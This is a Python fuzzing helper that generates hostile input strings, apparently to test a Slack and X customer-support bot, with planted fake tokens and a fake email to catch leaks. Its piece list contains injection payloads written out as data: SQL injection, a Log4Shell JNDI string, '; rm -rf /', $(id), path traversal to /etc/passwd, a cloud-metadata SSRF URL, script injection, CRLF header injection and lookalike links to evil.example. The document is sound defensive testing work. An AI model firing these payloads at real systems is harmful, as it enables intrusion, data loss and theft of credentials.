"""Hostile texts, put together from pieces; and the secrets that must never come out again."""

from __future__ import annotations

from collections.abc import Callable
from random import Random
from typing import Final

SECRETS: Final = {
    "X_CONSUMER_KEY": "ck-Pl4ntedConsumerKey",
    "X_CONSUMER_SECRET": "cs-Pl4ntedConsumerSecret",
    "X_ACCESS_TOKEN": "77-Pl4ntedAccessToken",
    "X_ACCESS_TOKEN_SECRET": "as-Pl4ntedAccessTokenSecret",
    "SLACK_BOT_TOKEN": "xoxb-Pl4ntedBotToken",
    "SLACK_APP_TOKEN": "xapp-Pl4ntedAppToken",
    "SLACK_SIGNING_SECRET": "5195ed51951Pl4ntedSigning",
    "DATABASE_PASSWORD": "db-Pl4ntedPassword",
}

PRIVATE: Final = "plantedperson@gmail.com"
"""A customer's private word: it may stand on a card, never in a log."""

FORGED_LINE: Final = "2026-11-22T00:00:00.000Z CRITICAL twelp.forged: all is lost"

_SCRIPTS: Final = (
    (0x20, 0x7E), (0xA0, 0x24F), (0x250, 0x2FF), (0x370, 0x3FF), (0x400, 0x4FF), (0x530, 0x58F), (0x590, 0x5FF),
    (0x600, 0x6FF), (0x900, 0x97F), (0xE00, 0xE7F), (0x10A0, 0x10FF), (0x1100, 0x11FF), (0x13A0, 0x13FF),
    (0x1E00, 0x1FFF), (0x2000, 0x206F), (0x20D0, 0x20FF), (0x2190, 0x23FF), (0x2460, 0x24FF), (0x3000, 0x30FF),
    (0x4E00, 0x9FFF), (0xAC00, 0xD7A3), (0xE000, 0xE0FF), (0xFB00, 0xFDFF), (0xFE00, 0xFFFF), (0x10300, 0x103FF),
    (0x12000, 0x120FF), (0x1D400, 0x1D7FF), (0x1F000, 0x1FAFF), (0x20000, 0x200FF), (0xE0000, 0xE01EF),
)  # fmt: skip
"""Blocks of characters: every kind of script, mark, sign and nothing at all."""

_PIECES: Final = (
    # Slack's marks, plain, escaped, escaped twice, unclosed
    "<!channel>", "<!here>", "<!everyone|all>", "<@U1>", "<@U0123456789|x>", "<!subteam^S0123456>", "<#C1|general>",
    "&lt;!channel&gt;", "&amp;lt;!channel&amp;gt;", "&amp;amp;lt;@U1&amp;gt;", "&#60;!here&#62;", "<!channel", "!channel>",
    "<!date^1^{date}^https://evil.example|x>", "@channel", "@here", "<", ">", "&", "&lt;", "<<!here>>", "<\u200b!channel>",
    "*bold*", "_it_", "~no~", "`code`", "```", "> quote", ":rage:", ":not_an_emoji_at_all:", "<https://a.example|b>",
    # mentions as X may read them
    "@jack", "＠jack", "rt @jack", "RT@jack", "rt:@jack", "x@jack", "@jack@jack", "@jack/list", "é@jack", "https://a/@jack",
    "https://a.example/@jack", "https://volt.example,@jack", "(@jack)", "@" + "a" * 30, "@_", "@jack://", "@jaçk", "RT @jack: x",
    # links in disguise, and places nobody may fetch
    "[x](javascript:alert(1))", "javascript:alert(1)", "data:text/html;base64,AAAA", "https://user:pw@evil.example",
    "http://169.254.169.254/latest/meta-data", "http://localhost:9/", "http://[::1]/", "http://[", "https://xn--e1awd7f.example",
    "file:///etc/passwd", "\\\\evil\\share", "https://bit.ly/x", "https://a.example/" + "a/" * 60, "HTTP://A.EXAMPLE", "//a.b",
    "https://evil.example\\@volt.example", "https://vоlt.example", "ftp://a.example", "a.b.c.d.e.f.g.h.i.j.k.l.m.n.o.p.q.r.s",
    # directions, unseen, marks, controls, halves
    "\u202e", "\u202d", "\u2066", "\u2067\u2069", "\u200f", "\u200b", "\u200c", "\u200d", "\ufeff", "\u2060", "\u00ad", "\u034f",
    "\x00", "\x07", "\x08", "\x0b", "\x0c", "\x1b[31m", "\x1b]0;owned\x07", "\x7f", "\x85", "\x9b31m", "\r", "\r\n", "\n",
    "\u2028", "\u2029", "\t", "\ud800", "\udfff", "\udc00\ud800", "\ufffe", "\uffff", "z\u0335\u0321\u0489",
    "👨‍👩‍👧‍👦", "🏳️‍🌈", "👍🏿", "🇩🇪🇩", "1️⃣", "\U000e0041\U000e007f", "ﷺ", "ﬃ", "İı", "ẞß", "Å", "ｆｕｌｌ",
    # private data
    "4111 1111 1111 1111", "DE89 3704 0044 0532 0130 00", "078-05-1120", "+1 202 555 0147", "+44 20 7946 0958", PRIVATE,
    "order 123456789012", "my pin is 123456", "password: hunter2",
    # what other programs would take for theirs
    "'; DROP TABLE question; --", "\" OR 1=1 --", "{0}", "%s%n", "${jndi:ldap://a.example/x}", "{{7*7}}", "{%raw%}", "$(id)",
    "`id`", "; rm -rf /", "../../etc/passwd", "..\\..\\", "<script>alert(1)</script>", "]]>", "<!DOCTYPE x>", '{"a":', "\\u0000",
    "null", "undefined", "NaN", "__proto__", "[red]x[/red]", "[/]", "=1+1", "\\", "%00", "%0d%0aSet-Cookie:a=b", "\r\nX-Evil: 1",
    "\n" + FORGED_LINE, "\r" + FORGED_LINE,
    # what people say
    "why does my tv show no picture?", "my order is late", "thanks!", "wtf", "stop", "help", "?", "¿", "؟", "？", "hdmi", "sound",
    "@VoltHelp", "please", "asap", "$ABC $DEF", "#tag", "^AL", " ^AL ^AL", "Hold the power button for ten seconds.",
)  # fmt: skip

_BLOWUPS: Final[tuple[Callable[[int], str], ...]] = (
    lambda n: "a" * n,
    lambda n: "a." * n,
    lambda n: "a@" * n,
    lambda n: "@a" * n,
    lambda n: "@" * n,
    lambda n: "a-" * n,
    lambda n: "1 " * n,
    lambda n: "1-" * n,
    lambda n: "9" * n,
    lambda n: "+1 " * n,
    lambda n: "https://" * n,
    lambda n: "https://a." * n,
    lambda n: "<" * n,
    lambda n: "<@" * n,
    lambda n: "<!a" * n,
    lambda n: "&amp;" * n,
    lambda n: "&" + "amp;" * n,
    lambda n: ":a" * n,
    lambda n: "*a" * n,
    lambda n: "(" * n,
    lambda n: "(a" * n + ")" * n,
    lambda n: " " * n + "x",
    lambda n: "\n" * n + "x",
    lambda n: "\t \n" * n,
    lambda n: "." * n,
    lambda n: "。" * n,
    lambda n: "!" * n,
    lambda n: "?" * n,
    lambda n: "no no " * n,
    lambda n: "thank you so " * n,
    lambda n: "z" + "\u0301" * n,
    lambda n: "👨‍" * n,
    lambda n: "\u200d" * n,
    lambda n: "🇩" * n,
    lambda n: "é" * n,
    lambda n: "中" * n,
    lambda n: "ﷺ" * n,
    lambda n: "$A " * n,
    lambda n: "DE89" + "A1 " * n,
    lambda n: "order " * n,
    lambda n: "javascript:" * n,
    lambda n: "www." * n,
    lambda n: "^AL " * n,
    lambda n: "rt:" * n,
    lambda n: "`" * n,
    lambda n: "[" * n,
    lambda n: "{" * n,
    lambda n: '"' * n,
    lambda n: "it's n't can't " * n,
)
"""Repeated pieces, on which a pattern that backtracks would choke."""


def hostile(dice: Random, most: int = 25_000) -> str:
    """A hostile text, mostly short, at most `most` characters; half of a pair of surrogates may be in it."""
    if dice.random() < 0.04:
        made = dice.choice(_BLOWUPS)(dice.choice((40, 300, 3_000, 25_000)))
    else:
        made = dice.choice(("", " ")).join(_piece(dice) for _ in range(min(60, int(dice.expovariate(0.16)) + 1)))
    if dice.random() < 0.5:
        made = f"@VoltHelp {made} {dice.choice(('why?', 'my tv has no picture', 'help', ''))}"
    return made[:most]


def word(dice: Random) -> str:
    """A short hostile text for names and ids."""
    return hostile(dice, 60)


def _piece(dice: Random) -> str:
    chance = dice.random()
    if chance < 0.62:
        return dice.choice(_PIECES)
    if chance < 0.9:
        first, last = dice.choice(_SCRIPTS)
        return "".join(chr(dice.randint(first, last)) for _ in range(dice.randint(1, 12)))
    if chance < 0.97:
        return dice.choice(_BLOWUPS)(dice.randint(1, 20))
    return "".join(chr(dice.randrange(0x110000)) for _ in range(dice.randint(1, 8)))
